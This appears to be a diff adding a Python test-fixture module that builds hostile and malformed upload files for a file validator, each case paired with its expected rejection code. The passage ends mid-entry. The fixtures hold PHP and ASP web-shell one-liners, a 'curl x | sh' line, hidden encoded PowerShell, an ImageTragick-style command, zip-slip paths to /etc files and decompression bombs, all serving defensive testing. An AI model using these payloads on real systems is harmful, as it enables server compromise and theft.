@@ -1,0 +1,665 @@
+"""Hostile and broken files, built in code: each with the code, and words of the sentence, it must be refused with."""
+
+import random
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from functools import partial, reduce
+
+from tests import files, media
+from tests.media import DOCX, EPUB, box, docx, drawn, element, epub, mp4, packed, saved, webm, word
+
+MB = 1024 * 1024
+PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0\x64\x86\x03\0" + bytes(12) + b"\xf0\0\x22\0\x0b\x02" + bytes(99)
+ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(99)
+ZIP = packed({"inside.txt": b"words " * 50})
+RAR = b"Rar!\x1a\x07\x01\x00" + bytes(40)
+SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)
+PHP = b"<?php system($_GET['c']); ?>"
+PAGE = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"
+SCRIPT = b"<script>alert(1)</script>"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\3\0\xfe\xff" + bytes(500)
+MACROS = b"\x01\x16" + bytes(20) + "_VBA_PROJECT".encode("utf-16-le") + bytes(20)
+NOISE = random.Random(1).randbytes(500_000).hex().encode()  # noqa: S311  repeatable, not secret
+DISK = bytes(32_768) + b"\x01CD001\x01\x00" + bytes(99)
+
+
+@dataclass(frozen=True)
+class Case:
+    """`build` makes the file; `code` and `says` are what its owner must read."""
+
+    media_type: str
+    filename: str
+    build: Callable[[], bytes]
+    code: str
+    says: str = ""
+
+
+def _png(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("image/png", "a.png", build, code, says)
+
+
+def _jpeg(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("image/jpeg", "a.jpg", build, code, says)
+
+
+def _gif(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("image/gif", "a.gif", build, code, says)
+
+
+def _webp(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("image/webp", "a.webp", build, code, says)
+
+
+def _mp3(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("audio/mpeg", "a.mp3", build, code, says)
+
+
+def _mp4(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("video/mp4", "a.mp4", build, code, says)
+
+
+def _webm(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("video/webm", "a.webm", build, code, says)
+
+
+def _ogg(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case("audio/ogg", "a.ogg", build, code, says)
+
+
+def _epub(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case(EPUB, "a.epub", build, code, says)
+
+
+def _docx(build: Callable[[], bytes], code: str, says: str = "") -> Case:
+    return Case(DOCX, "a.docx", build, code, says)
+
+
+def _png_of(width: int, height: int, content: bytes = b"") -> bytes:
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    chunks = ((b"IHDR", head), (b"IDAT", content or zlib.compress(bytes(100))), (b"IEND", b""))
+    return b"\x89PNG\r\n\x1a\n" + b"".join(media.png_chunk(*chunk) for chunk in chunks)
+
+
+def _zeros(count: int) -> bytes:
+    """Compressed."""
+    packer = zlib.compressobj(9)
+    return b"".join(packer.compress(bytes(MB)) for _ in range(count // MB)) + packer.flush()
+
+
+def _jpeg_of(width: int, height: int) -> bytes:
+    whole = bytearray(saved(drawn(), "JPEG"))
+    at = whole.index(b"\xff\xc0")
+    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
+    return bytes(whole)
+
+
+def _gif_of_frames(count: int) -> bytes:
+    frame = b"\x2c\0\0\0\0\1\0\1\0\0\x02\x02\x44\x01\0"
+    return b"GIF89a\1\0\1\0\x80\0\0" + bytes(3) + b"\xff\xff\xff" + frame * count + b";"
+
+
+def _webp_of(width: int, height: int) -> bytes:
+    extended = bytes(4) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
+    return media.riff(b"WEBP", (b"VP8X", extended), (b"VP8L", b"\x2f" + bytes(20)))
+
+
+def _changed(content: bytes, find: bytes, replace: bytes, *, last: bool = False) -> bytes:
+    at = content.rindex(find) if last else content.index(find)
+    return content[:at] + replace + content[at + len(find) :]
+
+
+def _everywhere(content: bytes, find: bytes, replace: bytes) -> bytes:
+    assert len(find) == len(replace)
+    assert find in content
+    return content.replace(find, replace)
+
+
+def _flagged(name: bytes, flag: int) -> bytes:
+    """A book whose part has a general flag, in its own header and in the directory."""
+    content = bytearray(epub())
+    local, central = content.index(b"PK\3\4", 30), content.index(b"PK\1\2")
+    assert name
+    content[local + 6] |= flag
+    at = content.index(b"PK\1\2", central + 1)
+    content[at + 8] |= flag
+    return bytes(content)
+
+
+def _lying_size() -> bytes:
+    """A part that declares 100 bytes and unpacks to 50 MB."""
+    whole = bytearray(epub({"OEBPS/big.css": bytes(50 * MB)}))
+    for signature, offset in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
+        at = 0
+        while (at := whole.find(signature, at)) >= 0:
+            if b"big.css" in whole[at : at + 70]:
+                whole[at + offset : at + offset + 4] = struct.pack("<I", 100)
+                break
+            at += 4
+    return bytes(whole)
+
+
+def _overlapping() -> bytes:
+    whole = bytearray(epub())
+    first = whole.index(b"PK\1\2")
+    second = whole.index(b"PK\1\2", first + 4)
+    third = whole.index(b"PK\1\2", second + 4)
+    whole[third + 42 : third + 46] = whole[second + 42 : second + 46]
+    return bytes(whole)
+
+
+def _symlink() -> bytes:
+    import io
+
+    out = io.BytesIO(epub())
+    with zipfile.ZipFile(out, "a") as file:
+        entry = zipfile.ZipInfo("OEBPS/link")
+        entry.external_attr = 0o120777 << 16
+        file.writestr(entry, "/etc/passwd")
+    return out.getvalue()
+
+
+def _with_method(method: int) -> bytes:
+    import io
+
+    out = io.BytesIO(epub())
+    with zipfile.ZipFile(out, "a", method) as file:
+        file.writestr("OEBPS/other.css", b"p {}" * 50)
+    return out.getvalue()
+
+
+def _compressed_type() -> bytes:
+    return packed(media.epub_parts())
+
+
+def _late_type() -> bytes:
+    parts = list(media.epub_parts().items())
+    return packed([*parts[1:], parts[0]], stored="mimetype")
+
+
+def _chapter(inside: str) -> bytes:
+    return epub({"OEBPS/one.xhtml": media.CHAPTER.replace("<p>", inside + "<p>")})
+
+
+def _document(body: str) -> bytes:
+    return docx({"word/document.xml": word(body)})
+
+
+def _related(kind: str, target: str = "https://example.org/x", *, outside: bool = True) -> bytes:
+    return docx({"word/_rels/document.xml.rels": media.relations((kind, target, outside))})
+
+
+LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
+
+CASES: dict[str, Case] = {
+    # ---- pictures ----
+    "PNG of 400 megapixels": _png(partial(_png_of, 20_000, 20_000), "too_many_pixels", "20,000"),
+    "PNG of 4 gigapixels": _png(partial(_png_of, 65_500, 65_500), "too_many_pixels"),
+    "PNG whose comment unpacks to 300 MB": _png(
+        lambda: media.png_with((b"zTXt", b"Comment\0\0" + _zeros(300 * MB))), "bomb", "metadata"
+    ),
+    "PNG whose translated comment unpacks to 300 MB": _png(
+        lambda: media.png_with((b"iTXt", b"Comment\0\1\0en\0x\0" + _zeros(300 * MB))), "bomb", "metadata"
+    ),
+    "PNG whose profile unpacks to 300 MB": _png(
+        lambda: media.png_with((b"iCCP", b"Profile\0\0" + _zeros(300 * MB))), "bomb", "metadata"
+    ),
+    "PNG of 100,001 parts": _png(lambda: media.png_with(*[(b"tEXt", b"a\0b")] * 100_001), "bomb", "parts"),
+    "PNG cut off": _png(lambda: saved(drawn(), "PNG")[:-30], "malformed", "cut off"),
+    "PNG with a wrong checksum": _png(lambda: _changed(saved(drawn(), "PNG"), b"IDATx", b"IDATy"), "malformed"),
+    "PNG without a header": _png(lambda: b"\x89PNG\r\n\x1a\n" + media.png_chunk(b"IEND", b""), "malformed"),
+    "PNG without pixels": _png(
+        lambda: (
+            b"\x89PNG\r\n\x1a\n"
+            + media.png_chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0))
+            + media.png_chunk(b"IEND", b"")
+        ),
+        "malformed",
+        "decoding",
+    ),
+    "PNG with PHP in a comment": _png(
+        lambda: media.png_with((b"tEXt", b"Comment\0" + PHP)), "pattern:php_in_media", "PHP"
+    ),
+    "PNG with a page in a comment": _png(lambda: media.png_with((b"tEXt", b"C\0" + PAGE)), "pattern:page_in_media"),
+    "PNG with a program behind it": _png(lambda: saved(drawn(), "PNG") + PROGRAM, "pattern:windows_program"),
+    "PNG with a ZIP behind it": _png(lambda: saved(drawn(), "PNG") + ZIP, "type_mismatch", "a ZIP archive at its end"),
+    "PNG with a ZIP inside": _png(lambda: media.png_with((b"teSt", ZIP + bytes(70_000))), "pattern:zip_archive"),
+    "PNG with a RAR behind it": _png(lambda: saved(drawn(), "PNG") + RAR, "pattern:rar_archive"),
+    "PNG with EICAR in a comment": _png(lambda: media.png_with((b"tEXt", b"C\0" + files.EICAR)), "pattern:eicar"),
+    "PNG named as JPEG": _jpeg(lambda: saved(drawn(), "PNG"), "type_mismatch", "it is a PNG picture"),
+    "JPEG of 4 gigapixels": _jpeg(partial(_jpeg_of, 65_500, 65_500), "too_many_pixels"),
+    "JPEG cut off": _jpeg(lambda: saved(drawn(), "JPEG")[:-40], "malformed"),
+    "JPEG without a picture": _jpeg(lambda: files.JPEG, "malformed"),
+    "JPEG with PHP in a comment": _jpeg(lambda: media.jpeg_with_comment(PHP), "pattern:php_in_media"),
+    "JPEG with short PHP in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b"<?=`$_GET[1]`?>"), "pattern:php_in_media"
+    ),
+    "JPEG with JSP in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b'<%@ page import="java.io.*" %>'), "pattern:asp_in_media"
+    ),
+    "JPEG with ASP in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b'<%eval request("x")%>'), "pattern:asp_in_media"
+    ),
+    "JPEG with a script in a comment": _jpeg(lambda: media.jpeg_with_comment(SCRIPT), "pattern:script_in_media"),
+    "JPEG that is a script for browsers": _jpeg(
+        lambda: media.jpeg_with_comment(b"*/=1;location='javascript:alert(1)'/*"), "pattern:script_in_media"
+    ),
+    "JPEG with an include in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b'<!--#exec cmd="id" -->'), "pattern:server_side_include"
+    ),
+    "JPEG with a shell script in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b"#!/bin/bash\ncurl x | sh\n"), "pattern:shell_script_in_media"
+    ),
+    "JPEG with PowerShell in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b"powershell -w hidden -enc " + b"QUJD" * 20), "pattern:powershell_in_media"
+    ),
+    "JPEG with drawing instructions": _jpeg(
+        lambda: media.jpeg_with_comment(b"push graphic-context\nfill 'url(https://x|ls)'"), "pattern:image_tragick"
+    ),
+    "JPEG with SVG in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b'<svg width=9 xmlns="http://www.w3.org/2000/svg">'), "pattern:svg_in_media"
+    ),
+    "JPEG with an HTA in a comment": _jpeg(
+        lambda: media.jpeg_with_comment(b"<hta:application id=x>"), "pattern:html_application"
+    ),
+    "JPEG with a PDF behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + files.one_page(), "type_mismatch", "a PDF behind"
+    ),
+    "JPEG with a PDF far behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"x" * 9_000 + files.one_page(), "pattern:pdf_in_media"
+    ),
+    "JPEG with 7-Zip behind it": _jpeg(lambda: saved(drawn(), "JPEG") + SEVEN_ZIP, "pattern:seven_zip_archive"),
+    "JPEG with a cabinet behind it": _jpeg(
+        lambda: (
+            saved(drawn(), "JPEG") + b"MSCF" + bytes(4) + b"\x99" * 4 + bytes(4) + b"\x2c\0\0\0" + bytes(4) + b"\3\1"
+        ),
+        "pattern:cabinet_archive",
+    ),
+    "JPEG with a macOS installer behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"xar!\0\x1c\0\1" + bytes(40), "pattern:xar_archive"
+    ),
+    "JPEG with a Java class behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"\xca\xfe\xba\xbe\0\0\0\x34" + b"java/lang/Object", "pattern:java_program"
+    ),
+    "JPEG with an Android program behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"dex\n035\0" + b"\1" * 32 + b"\x70\0\0\0\x78\x56\x34\x12",
+        "pattern:android_program",
+    ),
+    "JPEG with WebAssembly behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"\0asm\1\0\0\0\1\4\1\x60\0\0", "pattern:web_assembly"
+    ),
+    "JPEG with a packed Python program behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"MEI\x0c\x0b\x0a\x0b\x0e" + bytes(80), "pattern:compiled_python"
+    ),
+    "JPEG with an old Office document behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + OLE, "pattern:old_office_document"
+    ),
+    "JPEG with the head of a program behind it": _jpeg(
+        lambda: saved(drawn(), "JPEG") + b"MZ\x90\0" + bytes(74) + b"This program cannot be run in DOS mode",
+        "pattern:dos_program",
+    ),
+    "GIF of 200,000 frames": _gif(partial(_gif_of_frames, 200_000), "bomb", "frames"),
+    "GIF of 501 frames": _gif(partial(_gif_of_frames, 501), "bomb", "frames"),
+    "GIF of 4 gigapixels": _gif(lambda: b"GIF89a\xff\xff\xff\xff\0\0\0;", "too_many_pixels"),
+    "GIF cut off": _gif(lambda: media.animation("GIF")[:-9], "malformed"),
+    "GIF that is a script": _gif(
+        lambda: b"GIF89a/*" + media.animation("GIF")[8:] + b"*/=1;document.write('<script>x</script>')",
+        "pattern:script_in_media",
+    ),
+    "GIF with a script in a comment": _gif(lambda: saved(drawn("P"), "GIF", comment=SCRIPT), "pattern:script_in_media"),
+    "WebP of 268 megapixels": _webp(partial(_webp_of, 16_384, 16_384), "too_many_pixels"),
+    "WebP cut off": _webp(lambda: saved(drawn(), "WEBP")[:-9], "malformed"),
+    "WebP without pixels": _webp(lambda: media.riff(b"WEBP", (b"EXIF", b"x" * 20)), "malformed"),
+    "WebP with PHP in a chunk": _webp(
+        lambda: media.riff(b"WEBP", (b"VP8L", saved(drawn(), "WEBP", lossless=True)[20:]), (b"XMP ", PHP)),
+        "pattern:php_in_media",
+    ),
+    "HEIC whose picture lies outside": Case(
+        "image/heic", "a.heic", lambda: media.heif(place=(40, 9_999)), "malformed", "not complete"
+    ),
+    "HEIC of 100 megapixels": Case(
+        "image/heic", "a.heic", lambda: media.heif(size=(10_000, 10_000)), "too_many_pixels"
+    ),
+    "HEIC with something else in it": Case(
+        "image/heic", "a.heic", lambda: media.heif(others=(b"rude",)), "type_mismatch", "no picture of its type"
+    ),
+    "HEIC that says it is AVIF": Case(
+        "image/heic", "a.heic", lambda: media.heif(brand=b"mif1", codec=b"av01", compatible=b"avif"), "type_mismatch"
+    ),
+    "HEIC cut off": Case("image/heic", "a.heic", lambda: media.heif()[:-9], "malformed", "not complete"),
+    "HEIC with bytes behind it": Case("image/heic", "a.heic", lambda: media.heif() + b"\1" * 20, "malformed"),
+    "HEIC without a list": Case(
+        "image/heic", "a.heic", lambda: box(b"ftyp", b"heic" + bytes(4)) + box(b"meta", bytes(4)), "malformed"
+    ),
+    "AVIF with HEVC in it": Case(
+        "image/avif", "a.avif", lambda: media.heif(brand=b"avif", codec=b"hvc1", compatible=b"avif"), "type_mismatch"
+    ),
+    "SVG named as PNG": _png(lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "type_mismatch", "an SVG picture"),
+    "BMP named as PNG": _png(lambda: saved(drawn(), "BMP"), "type_mismatch", "a BMP picture"),
+    "TIFF named as JPEG": _jpeg(lambda: saved(drawn(), "TIFF"), "type_mismatch", "a TIFF picture"),
+    # ---- sound ----
+    "MP3 whose tag unpacks to 300 MB": _mp3(
+        lambda: (
+            media.id3(media.id3_frame(b"TXXX", struct.pack(">I", 300 * MB) + _zeros(300 * MB), b"\0\x80")) + media.mp3()
+        ),
+        "bomb",
+        "unpacks",
+    ),
+    "MP3 whose newer tag unpacks to 300 MB": _mp3(
+        lambda: (
+            media.id3(media.id3_frame(b"TXXX", media.synchsafe(9) + _zeros(300 * MB), b"\0\x09", version=4), version=4)
+            + media.mp3()
+        ),
+        "bomb",
+    ),
+    "MP3 whose tag is longer than the file": _mp3(
+        lambda: b"ID3\3\0\0\x7f\x7f\x7f\x7f" + media.mp3(), "malformed", "tag"
+    ),
+    "MP3 of a tag alone": _mp3(lambda: media.id3(media.id3_frame(b"TIT2", b"\0x")), "malformed", "no MP3 sound"),
+    "MP3 of five tags": _mp3(lambda: media.id3(media.id3_frame(b"TIT2", b"\0x")) * 5 + media.mp3(), "malformed"),
+    "MP3 with a page behind it": _mp3(lambda: media.mp3() + PAGE * 300, "malformed", "something else"),
+    "MP3 with a page in its tag": _mp3(
+        lambda: media.id3(media.id3_frame(b"COMM", PAGE)) + media.mp3(), "pattern:page_in_media"
+    ),
+    "MP3 with a program in its tag": _mp3(
+        lambda: media.id3(media.id3_frame(b"GEOB", PROGRAM)) + media.mp3(), "pattern:windows_program"
+    ),
+    "MP3 with a ZIP behind it": _mp3(lambda: media.mp3() + ZIP, "type_mismatch", "ZIP"),
+    "MP3 of noise": _mp3(lambda: b"\xff\xfb\x90\x00" + bytes(range(256)) * 40, "malformed"),
+    "MP3 of layer II": _mp3(lambda: b"\xff\xfd\x80\x00" + bytes(400), "type_mismatch", "layer I or II"),
+    "AAC cut into noise": Case("audio/aac", "a.aac", lambda: media.aac() + b"noise" * 20, "malformed"),
+    "AAC of two frames": Case("audio/aac", "a.aac", lambda: media.aac(2), "malformed"),
+    "Theora video named as OGG": _ogg(
+        lambda: media.ogg_stream(b"\x80theora" + bytes(40), 1_000), "codec_not_allowed", "Theora video"
+    ),
+    "OGG of an unknown kind": _ogg(lambda: media.ogg_stream(b"whatever", 1_000), "codec_not_allowed"),
+    "OGG with a wrong checksum": _ogg(
+        lambda: _changed(media.ogg_stream(media.OPUS_HEAD, 48_312), b"tags", b"tagz"),
+        "malformed",
+        "not what was written",
+    ),
+    "OGG cut off": _ogg(lambda: media.ogg_stream(media.OPUS_HEAD, 48_312)[:-3], "malformed", "not complete"),
+    "OGG with bytes behind it": _ogg(lambda: media.ogg_stream(media.OPUS_HEAD, 48_312) + b"more", "malformed"),
+    "OGG of two streams at once": _ogg(
+        lambda: media.ogg_page(1, 0, 0, 2, media.OPUS_HEAD) + media.ogg_page(2, 0, 0, 2, media.VORBIS_HEAD), "malformed"
+    ),
+    "OGG without sound": _ogg(lambda: media.ogg_page(1, 0, 0, 2, media.OPUS_HEAD), "malformed", "no sound"),
+    "FLAC cut off": Case("audio/flac", "a.flac", lambda: media.flac()[:-4], "malformed", "cut off"),
+    "FLAC with bytes behind it": Case("audio/flac", "a.flac", lambda: media.flac() + b"more", "malformed"),
+    "FLAC without sound": Case(
+        "audio/flac", "a.flac", lambda: b"fLaC\x80\0\0\x22" + media.flac_info(9), "malformed", "no sound"
+    ),
+    "FLAC whose description is longer than the file": Case(
+        "audio/flac", "a.flac", lambda: media.flac(more=b"\x84\xff\xff\xff"), "malformed"
+    ),
+    "WAV cut off": Case("audio/wav", "a.wav", lambda: media.wav()[:-99], "malformed", "not complete"),
+    "WAV with bytes behind it": Case(
+        "audio/wav", "a.wav", lambda: media.wav() + b"more" * 9, "malformed", "follow its end"
+    ),
+    "WAV of an unknown kind": Case(
+        "audio/wav",
+        "a.wav",
+        lambda: media.riff(b"WAVE", media.wav_format(0x9999), (b"data", media.samples())),
+        "codec_not_allowed",
+    ),
+    "WAV without sound": Case("audio/wav", "a.wav", lambda: media.riff(b"WAVE", media.wav_format()), "malformed"),
+    "WAV with PHP in a list": Case(
+        "audio/wav",
+        "a.wav",
+        lambda: media.riff(b"WAVE", media.wav_format(), (b"LIST", PHP), (b"data", media.samples())),
+        "pattern:php_in_media",
+    ),
+    "WAV that is an AVI": Case(
+        "audio/wav", "a.wav", lambda: media.riff(b"AVI ", (b"LIST", b"x" * 9)), "type_mismatch", "AVI"
+    ),
+    # ---- video ----
+    "MP4 cut off": _mp4(lambda: mp4(media.VIDEO)[:-9], "malformed", "not complete"),
+    "MP4 with bytes behind it": _mp4(lambda: mp4(media.VIDEO) + b"\xde\xad\xbe\xef" * 9, "malformed"),
+    "MP4 with a ZIP in its free room": _mp4(
+        lambda: mp4(media.VIDEO, extra=box(b"free", ZIP + bytes(70_000))), "pattern:zip_archive"
+    ),
+    "MP4 with a program in its free room": _mp4(
+        lambda: mp4(media.VIDEO, extra=box(b"free", ELF)), "pattern:linux_program"
+    ),
+    "MP4 without a table of contents": _mp4(
+        lambda: box(b"ftyp", b"isom" + bytes(4)) + box(b"mdat", bytes(9)), "malformed"
+    ),
+    "MP4 without content": _mp4(lambda: _everywhere(mp4(media.VIDEO), b"mdat", b"free"), "malformed", "no content"),
+    "MP4 with copy protection": _mp4(lambda: mp4(media.track(b"vide", b"encv")), "encrypted"),
+    "MP4 with keys of a protection": _mp4(lambda: mp4(media.VIDEO, extra=box(b"pssh", bytes(30))), "encrypted"),
+    "MP4 of an unknown kind": _mp4(lambda: mp4(media.track(b"vide", b"rude")), "codec_not_allowed", "rude"),
+    "MP4 with programs in a track": _mp4(lambda: mp4(media.VIDEO, media.track(b"data", b"exec")), "codec_not_allowed"),
+    "MP4 whose content lies elsewhere": _mp4(
+        lambda: mp4(media.track(b"vide", b"avc1", reference=0)), "external_content", "another place"
+    ),
+    "MP4 of 30 hours": _mp4(lambda: mp4(media.VIDEO, duration=30 * 3_600_000), "too_long"),
+    "MP4 of 65 tracks": _mp4(lambda: mp4(media.VIDEO, *[media.SOUND] * 64), "bomb", "tracks"),
+    "MP4 of 30,000 pixels": _mp4(lambda: mp4(media.track(b"vide", b"avc1", size=(30_000, 20))), "malformed", "30,000"),
+    "MP4 of 250,000 boxes": _mp4(lambda: mp4(media.VIDEO, extra=box(b"free") * 250_000), "bomb", "boxes"),
+    "MP4 nested without end": _mp4(
+        lambda: reduce(lambda inner, _: box(b"moov", inner), range(200), mp4(media.VIDEO)),
+        "type_mismatch",
+    ),
+    "MP4 nested without end behind its beginning": _mp4(
+        lambda: box(b"ftyp", b"isom" + bytes(4)) + reduce(lambda inner, _: box(b"trak", inner), range(200), b""),
+        "bomb",
+        "nest",
+    ),
+    "sound named as video": _mp4(lambda: mp4(media.SOUND), "type_mismatch", ".m4a"),
+    "video named as sound": Case("audio/mp4", "a.m4a", lambda: mp4(media.VIDEO, media.SOUND), "type_mismatch", ".mp4"),
+    "QuickTime named as MP4": _mp4(lambda: mp4(media.VIDEO, brand=b"qt  "), "type_mismatch", "QuickTime"),
+    "Matroska named as WebM": _webm(lambda: webm(doctype=b"matroska"), "type_mismatch", "Matroska"),
+    "WebM with H.264": _webm(lambda: webm((b"V_MPEG4/ISO/AVC",)), "codec_not_allowed", "V_MPEG4"),
+    "WebM with a protection": _webm(
+        lambda: webm(in_track=element(0x6D80, element(0x6240, element(0x5035, b"x")))), "encrypted"
+    ),
+    "WebM with attachments": _webm(lambda: webm(extra=element(0x1941A469, b"file")), "foreign_content", "attached"),
+    "WebM with a program in its free room": _webm(
+        lambda: webm(extra=element(0xEC, PROGRAM)), "pattern:windows_program"
+    ),
+    "WebM cut off": _webm(lambda: webm()[:-3], "malformed", "not complete"),
+    "WebM with bytes behind it": _webm(lambda: webm() + b"\x99\x81x", "malformed"),
+    "WebM of sound alone": _webm(lambda: webm((b"A_OPUS",)), "type_mismatch", "none in it"),
+    "WebM of 300 hours": _webm(lambda: webm(duration=1.1e9), "too_long"),
+    "WebM of no length": _webm(lambda: webm(duration=float("nan")), "malformed"),
+    # ---- containers ----
+    "EPUB whose type is compressed": _epub(_compressed_type, "malformed", "must be its type, not compressed"),
+    "EPUB whose type comes late": _epub(_late_type, "malformed", "must be its type"),
+    "ZIP named as EPUB": _epub(lambda: ZIP, "malformed", "must be its type"),
+    "EPUB that says it is something else": _epub(lambda: epub({"mimetype": "application/zip"}), "type_mismatch"),
+    "EPUB without a table of contents": _epub(lambda: epub({"OEBPS/content.opf": None}), "malformed", "content.opf"),
+    "EPUB without text": _epub(lambda: epub({"OEBPS/one.xhtml": None}), "malformed", "text is missing"),
+    "EPUB with a script": _epub(lambda: _chapter("<script>x()</script>"), "active_content", "scripts"),
+    "EPUB with a handler": _epub(lambda: _chapter('<p onclick="x()">a</p>'), "active_content"),
+    "EPUB with a link that runs": _epub(lambda: _chapter('<a href="javascript:x()">a</a>'), "active_content"),
+    "EPUB with a script file": _epub(lambda: epub({"OEBPS/a.js": "x()"}), "active_content"),
+    "EPUB with a frame": _epub(lambda: _chapter('<iframe src="https://example.org"/>'), "active_content", "embeds"),
+    "EPUB with an SVG that runs": _epub(
+        lambda: epub({"OEBPS/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'}),
+        "active_content",
+    ),
+    "EPUB with copy protection": _epub(
+        lambda: epub(
+            {
+                "META-INF/encryption.xml": '<e><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></e>'
+            }
+        ),
+        "encrypted",
+        "DRM",
+    ),
+    "EPUB with rights": _epub(lambda: epub({"META-INF/rights.xml": "<r/>"}), "encrypted"),
+    "EPUB with a book in it": _epub(lambda: epub({"OEBPS/inner.epub": epub()}), "foreign_content", "an archive"),
+    "EPUB with a program in it": _epub(lambda: epub({"OEBPS/run.png": PROGRAM}), "foreign_content", "a program"),
+    "EPUB with a program inside a picture": _epub(
+        lambda: epub({"OEBPS/run.png": files.PNG + PROGRAM}), "pattern:windows_program"
+    ),
+    "EPUB with EICAR deep inside": _epub(
+        lambda: epub({"OEBPS/deep/er/notes.txt": NOISE + files.EICAR}),
+        "pattern:eicar",
+        "EICAR",
+    ),
+    "EPUB with a Windows help file": _epub(
+        lambda: epub({"OEBPS/help.bin": b"ITSF\3\0\0\0\x60\0\0\0" + bytes(90)}), "pattern:compiled_help"
+    ),
+    "EPUB with a disk image": _epub(lambda: epub({"OEBPS/disk.bin": DISK}), "pattern:disk_image"),
+    "EPUB with a shortcut": _epub(
+        lambda: epub({"OEBPS/a.bin": bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(80)}),
+        "pattern:script_for_windows",
+    ),
+    "EPUB with entities that multiply": _epub(
+        lambda: epub({"META-INF/container.xml": LAUGHS + media.CONTAINER}), "bomb", "entities"
+    ),
+    "EPUB nested without end": _epub(
+        lambda: epub({"OEBPS/content.opf": "<a>" * 5_000 + "</a>" * 5_000}), "bomb", "nests"
+    ),
+    "EPUB whose table of contents is no XML": _epub(
+        lambda: epub({"OEBPS/content.opf": "<package"}), "malformed", "XML"
+    ),
+    "ZIP of a 300 MB part": _epub(lambda: epub({"OEBPS/big.css": bytes(300 * MB)}), "bomb", "times its size"),
+    "ZIP whose parts are 210 MB together": _epub(
+        lambda: packed(
+            [*media.epub_parts().items(), *((f"OEBPS/{n}.bin", bytes(60 * MB)) for n in range(4))], stored="mimetype"
+        ),
+        "bomb",
+    ),
+    "ZIP of 2,001 parts": _epub(lambda: epub({f"OEBPS/{n}.css": "" for n in range(2_001)}), "bomb", "parts"),
+    "ZIP of 20,000 parts": _epub(lambda: epub({f"OEBPS/{n}.css": "" for n in range(20_000)}), "bomb", "parts"),
+    "ZIP that lies about a size": _epub(_lying_size, "malformed", "damaged"),
+    "ZIP whose parts overlap": _epub(_overlapping, "bomb", "overlap"),
+    "ZIP with a password": _epub(lambda: _flagged(b"x", 1), "encrypted", "password"),
+    "ZIP with a link": _epub(_symlink, "bad_container", "a link"),
+    "ZIP packed by bzip2": _epub(lambda: _with_method(zipfile.ZIP_BZIP2), "bad_container", "unusual"),
+    "ZIP packed by LZMA": _epub(lambda: _with_method(zipfile.ZIP_LZMA), "bad_container", "unusual"),
+    "ZIP with a way out": _epub(lambda: epub({"../../etc/cron.d/x": "x"}), "bad_container", "leads out"),
+    "ZIP with an absolute name": _epub(lambda: epub({"/etc/passwd": "x"}), "bad_container"),
+    "ZIP with a backslash": _epub(lambda: epub({"OEBPS\\x.css": "x"}), "bad_container"),
+    "ZIP with a drive": _epub(lambda: epub({"C:x.css": "x"}), "bad_container"),
+    "ZIP with a NUL in a name": _epub(
+        lambda: _everywhere(epub({"OEBPS/xAy.css": "x"}), b"xAy.css", b"x\0y.css"), "bad_container"
+    ),
+    "ZIP with two parts of one name": _epub(
+        lambda: _everywhere(epub({"OEBPS/two.xhtml": "x"}), b"two.xhtml", b"ONE.xhtml"), "bad_container", "same name"
+    ),
+    "ZIP with two names for one part": _epub(
+        lambda: _changed(epub(), b"one.xhtml", b"own.xhtml"), "bad_container", "two names"
+    ),
+    "ZIP with bytes behind it": _epub(lambda: epub() + b"more", "foreign_content", "follow the end"),
+    "ZIP with bytes before its directory": _epub(
+        lambda: (lambda whole, at: whole[:at] + bytes(99) + whole[at:])(epub(), epub().index(b"PK\1\2")),
+        "foreign_content",
+    ),
+    "ZIP cut off": _epub(lambda: epub()[:-30], "malformed"),
+    "ZIP with a damaged part": _epub(
+        lambda: (lambda whole: whole[:400] + b"\xff\xff\xff" + whole[403:])(epub()), "malformed", "damaged"
+    ),
+    "DOCX with macros": _docx(lambda: docx({"word/vbaProject.bin": MACROS}), "active_content", "macros"),
+    "DOCX that says it has macros": _docx(
+        lambda: docx(
+            {"[Content_Types].xml": media.content_types("application/vnd.ms-word.document.macroEnabled.main+xml")}
+        ),
+        "active_content",
+        "macros",
+    ),
+    "DOCX with macros under another name": _docx(
